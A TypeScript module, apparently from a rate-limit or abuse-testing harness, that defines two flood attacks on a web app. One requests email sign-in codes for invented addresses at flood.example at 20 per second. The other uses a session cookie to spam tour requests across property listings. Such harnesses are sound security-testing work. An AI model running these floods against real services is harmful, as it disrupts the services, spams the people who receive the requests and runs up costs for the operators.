import type { Attack } from '../attack.ts';
import { atRate, sender } from './sending.ts';

const JSON_TYPE = { 'content-type': 'application/json' };
const PER_SECOND = 20;
const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;
/** Of the addresses that the attacker makes up. */
export const FLOODED_DOMAIN = 'flood.example';

/** Requests a sign-in code for another address each time. */
export const codeFlood: Attack = {
  run({ origin, signal, note }) {
    const send = sender(origin);
    return atRate(PER_SECOND, { signal, note }, (number) =>
      send('/api/auth/email-otp/send-verification-otp', {
        method: 'POST',
        headers: JSON_TYPE,
        body: JSON.stringify({ email: `${number}@${FLOODED_DOMAIN}`, type: 'sign-in' }),
      }),
    );
  },
};

/** Requests a tour of one home after the other, all of the same agent. */
export const tourFlood: Attack = {
  run({ origin, cookie, marketIds, signal, note }) {
    const send = sender(origin);
    return atRate(PER_SECOND, { signal, note }, (number) => {
      const startsAt = Math.ceil(Date.now() / HOUR_MS) * HOUR_MS + (3 + number) * DAY_MS;
      const [start, end] = [startsAt, startsAt + HOUR_MS].map((at) => new Date(at).toISOString());
      const json = {
        propertyId: marketIds[number % marketIds.length],
        slots: [{ startsAt: start, endsAt: end }],
      };
      return send('/api/trpc/tours.request', {
        method: 'POST',
        headers: { ...JSON_TYPE, cookie },
        body: JSON.stringify({ json }),
      });
    });
  },
};
